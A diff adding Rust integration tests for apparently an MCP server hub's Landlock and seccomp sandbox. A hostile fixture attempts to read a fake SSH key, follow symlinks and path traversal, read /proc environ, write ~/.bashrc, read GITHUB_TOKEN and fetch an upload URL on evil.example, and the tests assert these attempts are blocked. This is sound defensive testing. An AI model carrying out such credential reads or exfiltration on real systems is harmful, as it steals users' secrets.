@@ -1,0 +1,449 @@
+//! The sandbox of stdio servers, end to end: a hostile fixture behind the hub tries to read,
+//! write, leak, connect and spawn its way out of its profile over real pipes; the same
+//! attempts succeed unconfined (so each check can fail); a machine without Landlock
+//! (simulated) refuses or warns; container launches keep working; and what each server may
+//! touch is shown by `config check`, `servers` and `/health`.
+
+use crate::support::{
+    FIXTURE, OPENPACT, Peers, Scratch, Stand, WAIT, ready, reply, s, serve_with, text,
+};
+use serde_json::{Value, json};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Stdio;
+
+const FAKE_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- fake";
+
+/// A home with a fake SSH key, a working dir with a link to that key, a private dir beside it.
+fn hostile_home(sc: &Scratch) {
+    let root = sc.path();
+    for d in ["home/.ssh", "work", "private"] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    std::fs::write(root.join("home/.ssh/id_ed25519"), FAKE_KEY).unwrap();
+    std::fs::write(root.join("work/notes.txt"), "allowed notes").unwrap();
+    std::fs::write(root.join("private/secret.txt"), "private words").unwrap();
+    std::os::unix::fs::symlink(root.join("home/.ssh/id_ed25519"), root.join("work/key")).unwrap();
+}
+
+async fn try_tool(hub: &mut crate::support::Hub, tool: &str, args: Value) -> String {
+    let r = hub.client.call(tool, args).await;
+    text(&r)
+}
+
+/// Every attempt the profile does not allow fails; every one it allows works; the child the
+/// server spawns is held to the same.
+#[tokio::test]
+async fn a_hostile_server_stays_inside_its_profile() {
+    let sc = Scratch::new();
+    hostile_home(&sc);
+    let root = sc.path().to_path_buf();
+    let open_port = TcpListener::bind("127.0.0.1:0").unwrap();
+    let open_port = open_port.local_addr().unwrap().port();
+    let allowed = Stand::start(|_| reply(200, "text/plain", "hello from an allowed host"));
+    let other = Stand::start(|_| reply(200, "text/plain", "must not be reached"));
+    let config = sc.servers(
+        json!({"h": {
+            "command": FIXTURE,
+            "args": ["--hostile"],
+            "cwd": s(&root.join("work")),
+            "sandbox": {
+                "network": {"allow": [format!("127.0.0.1:{}", allowed.port)]},
+                "env": ["MY_SETTING"],
+            },
+        }}),
+        None,
+    );
+    let home = root.join("home");
+    let mut hub = serve_with(
+        &config,
+        &[],
+        &[
+            ("HOME", s(&home)),
+            ("GITHUB_TOKEN", "ghp_fake_token"),
+            ("MY_SETTING", "visible"),
+        ],
+    )
+    .await;
+    ready(&mut hub.client, &["h:try_read"]).await;
+    let hub_pid = hub.child.id().unwrap();
+    let key = s(&home.join(".ssh/id_ed25519")).to_string();
+    let p = |rel: &str| s(&root.join(rel)).to_string();
+
+    let denied: Vec<(&str, Value)> = vec![
+        ("try_read", json!({"path": key})),
+        ("try_read", json!({"path": p("work/key")})),
+        ("try_read", json!({"path": p("work/../private/secret.txt")})),
+        (
+            "try_read",
+            json!({"path": format!("/proc/{hub_pid}/environ")}),
+        ),
+        ("try_list", json!({"path": p("home/.ssh")})),
+        ("try_write", json!({"path": p("private/new.txt")})),
+        ("try_write", json!({"path": p("home/.bashrc")})),
+        (
+            "try_write",
+            json!({"path": "/tmp/openpact-sandbox-escape.txt"}),
+        ),
+        ("try_env", json!({"name": "GITHUB_TOKEN"})),
+        ("try_tcp", json!({"host": "127.0.0.1", "port": open_port})),
+        ("try_udp", json!({"host": "127.0.0.1", "port": 53})),
+        ("try_dns", json!({"name": "example.com"})),
+        ("try_fetch", json!({"url": format!("{}/", other.base)})),
+        ("try_fetch", json!({"url": "https://evil.example/upload"})),
+    ];
+    for (tool, args) in &denied {
+        let got = try_tool(&mut hub, &format!("h:{tool}"), args.clone()).await;
+        assert!(
+            got.starts_with("failed: "),
+            "{tool} {args} should fail, got: {got}"
+        );
+        assert!(
+            !got.contains("fake") && !got.contains("ghp_"),
+            "{tool} leaked: {got}"
+        );
+    }
+    let allowed_calls: Vec<(&str, Value, &str)> = vec![
+        (
+            "try_read",
+            json!({"path": p("work/notes.txt")}),
+            "allowed notes",
+        ),
+        ("try_read", json!({"path": "/etc/passwd"}), "root"),
+        ("try_write", json!({"path": p("work/out.txt")}), ""),
+        ("try_env", json!({"name": "MY_SETTING"}), "visible"),
+        ("try_env", json!({"name": "PATH"}), "/"),
+        (
+            "try_fetch",
+            json!({"url": format!("{}/", allowed.base)}),
+            "200",
+        ),
+    ];
+    for (tool, args, want) in &allowed_calls {
+        let got = try_tool(&mut hub, &format!("h:{tool}"), args.clone()).await;
+        assert!(
+            got.starts_with("ok: ") && got.contains(want),
+            "{tool} {args} should work, got: {got}"
+        );
+    }
+    assert!(root.join("work/out.txt").exists());
+    assert!(!Path::new("/tmp/openpact-sandbox-escape.txt").exists());
+    // The grandchild: the same attempts from a process the server starts.
+    for (tool, args, ok) in [
+        ("try_read", json!({"path": key}), false),
+        (
+            "try_tcp",
+            json!({"host": "127.0.0.1", "port": open_port}),
+            false,
+        ),
+        ("try_env", json!({"name": "GITHUB_TOKEN"}), false),
+        ("try_read", json!({"path": p("work/notes.txt")}), true),
+    ] {
+        let got = try_tool(
+            &mut hub,
+            "h:try_spawn",
+            json!({"tool": tool, "arguments": args}),
+        )
+        .await;
+        let want = if ok {
+            "child said: ok: "
+        } else {
+            "child said: failed: "
+        };
+        assert!(got.contains(want), "child {tool} {args}: {got}");
+    }
+    // Refusals are logged with server and host.
+    hub.wait_log("egress refused", WAIT).await;
+    let log = hub.stderr();
+    assert!(log.contains("evil.example"), "{log}");
+    assert!(!log.contains("ghp_fake_token"));
+    assert!(allowed.seen().len() == 1 && other.seen().is_empty());
+}
+
+/// The same attempts with `"sandbox": false` succeed: each check above can fail.
+#[tokio::test]
+async fn unconfined_the_same_attempts_succeed() {
+    let sc = Scratch::new();
+    hostile_home(&sc);
+    let root = sc.path().to_path_buf();
+    let open_port = TcpListener::bind("127.0.0.1:0").unwrap();
+    let open_port = open_port.local_addr().unwrap().port();
+    let config = sc.servers(
+        json!({"h": {"command": FIXTURE, "args": ["--hostile"], "sandbox": false}}),
+        None,
+    );
+    let home = root.join("home");
+    let mut hub = serve_with(
+        &config,
+        &[],
+        &[("HOME", s(&home)), ("GITHUB_TOKEN", "ghp_fake_token")],
+    )
+    .await;
+    ready(&mut hub.client, &["h:try_read"]).await;
+    let key = s(&home.join(".ssh/id_ed25519")).to_string();
+    for (tool, args, want) in [
+        ("try_read", json!({"path": key}), "fake"),
+        (
+            "try_read",
+            json!({"path": s(&root.join("work/key"))}),
+            "fake",
+        ),
+        ("try_env", json!({"name": "GITHUB_TOKEN"}), "ghp_"),
+        (
+            "try_tcp",
+            json!({"host": "127.0.0.1", "port": open_port}),
+            "connected",
+        ),
+    ] {
+        let got = try_tool(&mut hub, &format!("h:{tool}"), args.clone()).await;
+        assert!(
+            got.starts_with("ok: ") && got.contains(want),
+            "{tool}: {got}"
+        );
+    }
+}
+
+/// `openpact ARGS` with the config, a private state dir and `env`; its JSON output.
+async fn cli_json(config: &Path, args: &[&str], env: &[(&str, &str)]) -> (i32, Value, String) {
+    let out = tokio::process::Command::new(OPENPACT)
+        .arg("--config")
+        .arg(config)
+        .arg("--state-dir")
+        .arg(config.with_file_name("state"))
+        .args(args)
+        .envs(env.iter().copied())
+        .stdin(Stdio::null())
+        .output()
+        .await
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
+    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
+    let v = serde_json::from_str(&stdout).unwrap_or(Value::Null);
+    (
+        out.status.code().unwrap_or(-1),
+        v,
+        format!("{stdout}\n{stderr}"),
+    )
+}
+
+fn server<'a>(hubs: &'a Value, name: &str) -> &'a Value {
+    hubs[0]["servers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["name"] == name)
+        .unwrap_or_else(|| panic!("no {name} in {hubs}"))
+}
+
+/// Without Landlock (simulated), `required` refuses the server with the reason; without it
+/// the server runs unconfined and `servers` says so, in both forms.
+#[tokio::test]
+async fn without_landlock_required_refuses_and_otherwise_warns() {
+    let no_landlock = ("OPENPACT_SANDBOX_SIMULATE_NO_LANDLOCK", "1");
+    let sc = Scratch::new();
+    let config = sc.servers(
+        json!({"a": {"command": FIXTURE}}),
+        Some(json!({"sandbox": {"required": true}})),
+    );
+    let (code, hubs, out) = cli_json(&config, &["servers", "--json"], &[no_landlock]).await;
+    let a = server(&hubs, "a");
+    assert_eq!(a["state"], "failed", "{out}");
+    let reason = a["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("Landlock") && reason.contains("required"),
+        "{reason}"
+    );
+    assert_eq!(a["sandbox"]["mode"], "refused");
+    assert_ne!(code, -1);
+
+    let sc = Scratch::new();
+    let config = sc.servers(json!({"a": {"command": FIXTURE}}), None);
+    let (_, hubs, out) = cli_json(
+        &config,
+        &["servers", "--json"],
+        &[no_landlock, ("GITHUB_TOKEN", "x")],
+    )
+    .await;
+    let a = server(&hubs, "a");
+    assert_eq!(a["state"], "ready", "{out}");
+    assert_eq!(a["sandbox"]["mode"], "unconfined");
+    assert_eq!(a["sandbox"]["enforced"], false);
+    assert!(
+        !a["sandbox"]["profile"]["env"]
+            .as_array()
+            .unwrap()
+            .contains(&json!("GITHUB_TOKEN"))
+    );
+    let (_, _, human) = cli_json(&config, &["servers"], &[no_landlock]).await;
+    assert!(
+        human.contains("NOT sandboxed") && human.contains("Landlock"),
+        "{human}"
+    );
+    let (_, _, human) = cli_json(&config, &["servers"], &[]).await;
+    assert!(human.contains("sandboxed (Landlock + seccomp)"), "{human}");
+}
+
+/// `config check` shows each server's profile (paths, hosts, variable names) and how it
+/// runs; `sandbox` on a remote server, or a mistyped key, is a problem.
+#[tokio::test]
+async fn config_check_shows_profiles_and_refuses_bad_sandbox_keys() {
+    let sc = Scratch::new();
+    let notes = sc.path().join("notes");
+    std::fs::create_dir_all(&notes).unwrap();
+    let config = sc.servers(
+        json!({
+            "a": {"command": FIXTURE, "sandbox": {
+                "filesystem": {"read": [s(&notes)], "deny": ["~/private"]},
+                "network": {"allow": ["example.com", "*.github.com:443"]},
+                "env": ["LANG"],
+            }},
+            "b": {"command": FIXTURE, "sandbox": false},
+        }),
+        None,
+    );
+    let (code, v, out) = cli_json(&config, &["config", "check", "--json"], &[]).await;
+    assert_eq!(code, 0, "{out}");
+    let a = &v["servers"][0]["sandbox"];
+    assert_eq!(a["mode"], "enforced", "{out}");
+    let profile = &a["profile"];
+    assert!(
+        profile["read"]
+            .as_array()
+            .unwrap()
+            .contains(&json!(s(&notes)))
+    );
+    assert!(
+        profile["deny"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|d| d.as_str().unwrap().ends_with("/.ssh"))
+    );
+    let allow = profile["network"]["allow"].as_array().unwrap();
+    assert!(
+        allow.contains(&json!("*.github.com:443")) && allow.contains(&json!("registry.npmjs.org"))
+    );
+    assert_eq!(v["servers"][1]["sandbox"]["mode"], "off");
+    let (_, _, human) = cli_json(&config, &["config", "check"], &[]).await;
+    assert!(
+        human.contains("sandbox: sandboxed") && human.contains("*.github.com:443"),
+        "{human}"
+    );
+    assert!(
+        human.contains("unconfined (\"sandbox\": false on this server)"),
+        "{human}"
+    );
+
+    let sc = Scratch::new();
+    let config = sc.servers(
+        json!({
+            "r": {"url": "http://127.0.0.1:9/mcp", "sandbox": true},
+            "t": {"command": FIXTURE, "sandbox": {"filesytem": {}, "network": {"allow": ["https://x.org"]}}},
+        }),
+        None,
+    );
+    let (code, v, out) = cli_json(&config, &["config", "check", "--json"], &[]).await;
+    assert_eq!(code, 1, "{out}");
+    let problems = v["problems"].to_string();
+    assert!(problems.contains("cannot be sandboxed"), "{problems}");
+    assert!(problems.contains("filesystem"), "{problems}");
+    assert!(
+        problems.contains("mcpServers.t.sandbox.network.allow[0]"),
+        "{problems}"
+    );
+}
+
+/// A server launched through a container runtime is left to it: not wrapped, environment
+/// filtered, with the runtime's own variables and `-e NAME` passed, its config readable.
+#[tokio::test]
+async fn container_launches_keep_their_runtime_settings() {
+    let sc = Scratch::new();
+    let bin = sc.path().join("bin");
+    let home = sc.path().join("home");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::create_dir_all(home.join(".docker")).unwrap();
+    std::fs::write(home.join(".docker/config.json"), "{\"auths\": {}}").unwrap();
+    // A stand-in for the docker CLI: it reads its own config, as the real one does, then
+    // runs the "container".
+    let docker = bin.join("docker");
+    std::fs::write(
+        &docker,
+        format!("#!/bin/sh\ncat \"$HOME/.docker/config.json\" >&2 || exit 3\n[ \"$1\" = run ] || exit 4\nexec {FIXTURE}\n"),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&docker, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let config = sc.servers(
+        json!({"c": {"command": s(&docker), "args": ["run", "-i", "--rm", "-e", "PASSED_TOKEN", "mcp/image"]}}),
+        None,
+    );
+    let mut hub = serve_with(
+        &config,
+        &[],
+        &[
+            ("HOME", s(&home)),
+            ("DOCKER_HOST", "unix:///run/docker.sock"),
+            ("PASSED_TOKEN", "given"),
+            ("OTHER_TOKEN", "kept"),
+        ],
+    )
+    .await;
+    ready(&mut hub.client, &["c:env"]).await;
+    for (name, want) in [
+        ("DOCKER_HOST", "unix:///run/docker.sock"),
+        ("PASSED_TOKEN", "given"),
+        ("OTHER_TOKEN", "<unset>"),
+    ] {
+        let got = text(&hub.client.call("c:env", json!({"name": name})).await);
+        assert_eq!(got, want, "{name}");
+    }
+    let (_, hubs, out) = cli_json(&config, &["servers", "--json"], &[("HOME", s(&home))]).await;
+    let c = server(&hubs, "c");
+    assert_eq!(c["sandbox"]["mode"], "runtime", "{out}");
+    assert_eq!(c["sandbox"]["runtime"], "docker");
+}
+
+/// server-filesystem, sandboxed with the default profile and given one directory, reads and
+/// writes there, and reads nothing outside it, not even through a link its root contains.
+#[tokio::test]
+async fn server_filesystem_is_confined_to_its_directory() {
+    let Some(peers) = Peers::get() else { return };
+    let sc = Scratch::new();
+    let files = sc.path().join("files");
+    let outside = sc.path().join("outside");
+    std::fs::create_dir_all(&files).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(files.join("in.txt"), "inside").unwrap();
+    std::fs::write(outside.join("secret.txt"), "outside words").unwrap();
+    std::os::unix::fs::symlink(outside.join("secret.txt"), files.join("link.txt")).unwrap();
+    let config = sc.servers(
+        json!({"fs": peers.entry("PEER_FILESYSTEM", &[s(&files)])}),
+        None,
+    );
+    let mut hub = serve_with(&config, &[], &[]).await;
+    ready(&mut hub.client, &["fs:read_text_file"]).await;
+    let read = |p: &Path| json!({"path": s(p)});
+    let r = hub
+        .client
+        .call("fs:read_text_file", read(&files.join("in.txt")))
+        .await;
+    assert_eq!(text(&r), "inside");
+    let r = hub
+        .client
+        .call(
+            "fs:write_file",
+            json!({"path": s(&files.join("new.txt")), "content": "written"}),
+        )
+        .await;
+    assert!(!crate::support::is_error(&r), "{r}");
+    assert_eq!(
+        std::fs::read_to_string(files.join("new.txt")).unwrap(),
+        "written"
+    );
+    for p in [files.join("link.txt"), outside.join("secret.txt")] {
+        let r = hub.client.call("fs:read_text_file", read(&p)).await;
+        assert!(!r.to_string().contains("outside words"), "{r}");
+    }
+    let (_, hubs, _) = cli_json(&config, &["servers", "--json"], &[]).await;
+    assert_eq!(server(&hubs, "fs")["sandbox"]["mode"], "enforced");
+}
